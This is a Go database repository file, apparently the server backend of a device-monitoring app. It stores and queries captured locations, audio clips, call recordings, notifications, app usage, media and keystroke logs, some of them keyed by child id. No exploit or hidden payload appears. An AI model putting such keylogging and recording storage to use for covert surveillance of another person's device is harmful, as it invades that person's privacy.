package repository

import (
	"context"
	"time"

	"github.com/guardianview/monitor-server-go/internal/database"
	"github.com/guardianview/monitor-server-go/internal/model"
)

// TelemetryRepository reads and writes the per-category telemetry tables.
// Reads filter on the owning id and a timestamp lower bound, newest first,
// capped at limit rows. The timestamp column differs per table.
type TelemetryRepository interface {
	Locations(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.Location, error)
	AudioClips(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.AudioClip, error)
	CallRecordings(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.CallRecording, error)
	Notifications(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.Notification, error)
	KeystrokeEvents(ctx context.Context, childID string, since time.Time, limit int) ([]model.KeystrokeEvent, error)
	SystemActivity(ctx context.Context, childID string, since time.Time, limit int) ([]model.SystemActivity, error)
	AppUsage(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.AppUsage, error)
	MediaItems(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.MediaItem, error)

	InsertLocation(ctx context.Context, loc model.Location) (*model.Location, error)
	InsertAudioClip(ctx context.Context, clip model.AudioClip) (*model.AudioClip, error)
	InsertNotification(ctx context.Context, n model.Notification) (*model.Notification, error)
	InsertKeystrokeEvent(ctx context.Context, ev model.KeystrokeEvent) (*model.KeystrokeEvent, error)

	CountByCategory(ctx context.Context, category model.Category) (int64, error)
}

type telemetryRepo struct {
	db database.DBTX
}

func NewTelemetryRepository(db database.DBTX) TelemetryRepository {
	return &telemetryRepo{db: db}
}

func (r *telemetryRepo) Locations(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.Location, error) {
	var rows []model.Location
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM locations
		WHERE device_id = $1 AND recorded_at >= $2
		ORDER BY recorded_at DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

func (r *telemetryRepo) AudioClips(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.AudioClip, error) {
	var rows []model.AudioClip
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM audio_clips
		WHERE device_id = $1 AND recorded_at >= $2
		ORDER BY recorded_at DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

func (r *telemetryRepo) CallRecordings(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.CallRecording, error) {
	var rows []model.CallRecording
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM call_recordings
		WHERE device_id = $1 AND start_time >= $2
		ORDER BY start_time DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

func (r *telemetryRepo) Notifications(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.Notification, error) {
	var rows []model.Notification
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM notifications
		WHERE device_id = $1 AND received_at >= $2
		ORDER BY received_at DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

// KeystrokeEvents is keyed by child id, not device id.
func (r *telemetryRepo) KeystrokeEvents(ctx context.Context, childID string, since time.Time, limit int) ([]model.KeystrokeEvent, error) {
	var rows []model.KeystrokeEvent
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM keylogger_data
		WHERE child_id = $1 AND timestamp >= $2
		ORDER BY timestamp DESC
		LIMIT $3
	`, childID, since, limit)
	return rows, err
}

// SystemActivity is keyed by child id, not device id.
func (r *telemetryRepo) SystemActivity(ctx context.Context, childID string, since time.Time, limit int) ([]model.SystemActivity, error) {
	var rows []model.SystemActivity
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM system_activity
		WHERE child_id = $1 AND timestamp >= $2
		ORDER BY timestamp DESC
		LIMIT $3
	`, childID, since, limit)
	return rows, err
}

func (r *telemetryRepo) AppUsage(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.AppUsage, error) {
	var rows []model.AppUsage
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM app_usage
		WHERE device_id = $1 AND recorded_at >= $2
		ORDER BY recorded_at DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

func (r *telemetryRepo) MediaItems(ctx context.Context, deviceID string, since time.Time, limit int) ([]model.MediaItem, error) {
	var rows []model.MediaItem
	err := r.db.SelectContext(ctx, &rows, `
		SELECT * FROM media_items
		WHERE device_id = $1 AND taken_at >= $2
		ORDER BY taken_at DESC
		LIMIT $3
	`, deviceID, since, limit)
	return rows, err
}

func (r *telemetryRepo) InsertLocation(ctx context.Context, loc model.Location) (*model.Location, error) {
	var out model.Location
	err := r.db.GetContext(ctx, &out, `
		INSERT INTO locations (device_id, lat, lng, accuracy, recorded_at)
		VALUES ($1, $2, $3, $4, $5)
		RETURNING *
	`, loc.DeviceID, loc.Lat, loc.Lng, loc.Accuracy, loc.RecordedAt)
	if err != nil {
		return nil, err
	}
	return &out, nil
}

func (r *telemetryRepo) InsertAudioClip(ctx context.Context, clip model.AudioClip) (*model.AudioClip, error) {
	var out model.AudioClip
	err := r.db.GetContext(ctx, &out, `
		INSERT INTO audio_clips (device_id, path, duration_s, recorded_at)
		VALUES ($1, $2, $3, $4)
		RETURNING *
	`, clip.DeviceID, clip.Path, clip.DurationS, clip.RecordedAt)
	if err != nil {
		return nil, err
	}
	return &out, nil
}

func (r *telemetryRepo) InsertNotification(ctx context.Context, n model.Notification) (*model.Notification, error) {
	var out model.Notification
	err := r.db.GetContext(ctx, &out, `
		INSERT INTO notifications (device_id, app, title, body, received_at)
		VALUES ($1, $2, $3, $4, $5)
		RETURNING *
	`, n.DeviceID, n.App, n.Title, n.Body, n.ReceivedAt)
	if err != nil {
		return nil, err
	}
	return &out, nil
}

func (r *telemetryRepo) InsertKeystrokeEvent(ctx context.Context, ev model.KeystrokeEvent) (*model.KeystrokeEvent, error) {
	var out model.KeystrokeEvent
	err := r.db.GetContext(ctx, &out, `
		INSERT INTO keylogger_data (child_id, timestamp, activity_type, app_name, content_preview, input_method, session_duration)
		VALUES ($1, $2, $3, $4, $5, $6, $7)
		RETURNING *
	`, ev.ChildID, ev.Timestamp, ev.ActivityType, ev.AppName, ev.ContentPreview, ev.InputMethod, ev.SessionDuration)
	if err != nil {
		return nil, err
	}
	return &out, nil
}

// CountByCategory backs the debug stats endpoint. The category name maps to a
// fixed table; anything else is rejected before interpolation.
func (r *telemetryRepo) CountByCategory(ctx context.Context, category model.Category) (int64, error) {
	table, ok := categoryTables[category]
	if !ok {
		return 0, ErrUnknownCategory
	}
	var count int64
	err := r.db.GetContext(ctx, &count, `SELECT COUNT(*) FROM `+table)
	return count, err
}

var categoryTables = map[model.Category]string{
	model.CategoryLocation:       "locations",
	model.CategoryAudioClip:      "audio_clips",
	model.CategoryCallRecording:  "call_recordings",
	model.CategoryNotification:   "notifications",
	model.CategoryKeystroke:      "keylogger_data",
	model.CategorySystemActivity: "system_activity",
	model.CategoryAppUsage:       "app_usage",
	model.CategoryMediaItem:      "media_items",
}
